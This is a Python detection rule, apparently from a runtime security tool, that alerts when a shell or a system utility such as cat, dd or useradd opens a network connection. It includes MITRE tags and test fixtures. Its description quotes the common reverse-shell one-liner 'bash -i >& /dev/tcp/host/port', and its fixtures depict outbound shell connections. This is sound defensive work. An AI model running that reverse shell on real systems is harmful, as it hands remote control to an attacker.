"""A shell or a basic system utility using the network itself: bash's /dev/tcp, a coreutils program connected to
a socket. These programs never open connections; when they do, their input and output are a remote attacker's."""

from typing import Any

from vigil.detections.sdk import EventDetection, Example, container_label
from vigil.detections.sdk.prefilters import program_name
from vigil.event import Event
from vigil.sources.falco.fixtures import falco_record
from vigil.sources.fixtures import EXAMPLE_START_NS, in_pod
from vigil.sources.tetragon.fixtures import tetragon_record

SHELLS = frozenset({"sh", "bash", "dash", "ash", "zsh", "ksh", "mksh", "csh", "tcsh", "fish"})
#: System utilities with no network code of their own (a connection by one is a redirection to a socket or an
#: injected payload), and account tools.
UTILITIES = frozenset({
    "cat", "ls", "cp", "mv", "rm", "mkdir", "sleep", "date", "echo", "head", "tail", "sort", "uniq", "cut", "tr",
    "wc", "tee", "touch", "chmod", "chown", "id", "whoami", "uname", "env", "printenv", "dd", "base64", "sed",
    "grep", "awk", "find", "useradd", "usermod", "passwd", "chpasswd", "su", "login", "mkfifo",
})
LOCAL_CLASSES = frozenset({"loopback", "unspecified", ""})


def uses_network(event: Event) -> bool:
    program = program_name(event)
    if program not in SHELLS and program not in UTILITIES:
        return False
    if event.kind == "net.listen":
        return True
    return event.network.remote_class not in LOCAL_CLASSES or bool(
        event.target.address and event.target.address not in ("127.0.0.1", "::1", "0.0.0.0", "::"))


def network_context(event: Event) -> dict[str, Any]:
    in_container = bool(event.container.id or event.k8s.container_id)
    peer = event.network.remote_address or event.target.address
    port = event.network.remote_port or event.target.port
    if event.kind == "net.listen":
        peer, port = event.network.local_address or event.target.address, event.network.local_port or port
    return {"exe": event.actor.exe, "program": program_name(event) or event.actor.exe,
            "how": {"net.connect": "connected to", "net.accept": "accepted from", "net.listen": "listened on"}[
                event.kind], "peer": f"{peer}:{port}", "command": " ".join(event.actor.args),
            "where": container_label(event) if in_container else f"node {event.node}", "node": event.node}


DETECTION = EventDetection(
    id="runtime.shell_network_connection",
    title="Shell or system utility using the network",
    alert_title="{program} {how} {peer} in {where}",
    description=(
        "A shell (bash, sh, …) or a system utility without network code (cat, sleep, dd, id, useradd, …) "
        "connected to, accepted from or listened on a network socket. Shells reach the network through "
        "`bash -i >& /dev/tcp/host/port`, the most common reverse shell, and utilities do when their input or "
        "output was redirected to a socket; in both cases the program is driven from the other end. Loopback "
        "connections are not reported."
    ),
    severity="high",
    mitre=["T1059.004", "T1095"],
    tags=["runtime", "execution", "command_and_control", "reverse_shell"],
    references=["https://attack.mitre.org/techniques/T1059/004/", "https://falco.org/docs/rules/default-rules/"],
    false_positives=["Shell scripts that use /dev/tcp for a health check against another service."],
    kinds=["net.connect", "net.accept", "net.listen"],
    exe_names=SHELLS | UTILITIES,
    match=uses_network,
    context=network_context,
    dedup="{cluster}/{node}/{namespace}/{pod}/{program}/{peer}",
    examples=[
        Example(
            name="bash connecting out through /dev/tcp (eBPF sensor)",
            source="ebpf",
            fires=True,
            record=in_pod({"type": "connect", "time_ns": EXAMPLE_START_NS, "pid": 6701, "tid": 6701, "ppid": 6700,
                           "uid": 33, "gid": 33, "comm": "bash", "cgroup_id": 7301, "family": "inet",
                           "protocol": "tcp", "local_address": "10.244.1.9", "local_port": 40300,
                           "remote_address": "45.33.32.156", "remote_port": 4444, "fd": 3}),
        ),
        Example(
            name="Falco: sh connected to a pod address",
            source="falco",
            fires=True,
            record=falco_record(
                "System procs network activity", "connect",
                {"proc.exepath": "/bin/dash", "proc.name": "sh", "proc.cmdline": "sh -i", "fd.rip": "10.244.3.17",
                 "fd.rport": 9001, "fd.lip": "10.244.1.7", "fd.lport": 40123, "fd.l4proto": "tcp",
                 "fd.type": "ipv4"},
                priority="Notice",
            ),
        ),
        Example(
            name="a shell connecting to the loopback",
            source="ebpf",
            fires=False,
            record=in_pod({"type": "connect", "time_ns": EXAMPLE_START_NS, "pid": 6702, "tid": 6702, "ppid": 6700,
                           "uid": 0, "gid": 0, "comm": "bash", "cgroup_id": 7301, "family": "inet",
                           "protocol": "tcp", "local_address": "127.0.0.1", "local_port": 40301,
                           "remote_address": "127.0.0.1", "remote_port": 8080, "fd": 3}),
        ),
        Example(
            name="python calling its database",
            source="tetragon",
            fires=False,
            record=tetragon_record("process_connect", binary="/usr/bin/python3", arguments="app.py",
                                   body={"source_ip": "10.244.1.7", "source_port": 40119,
                                         "destination_ip": "10.96.0.30", "destination_port": 5432,
                                         "protocol": "TCP"}),
        ),
    ],
)
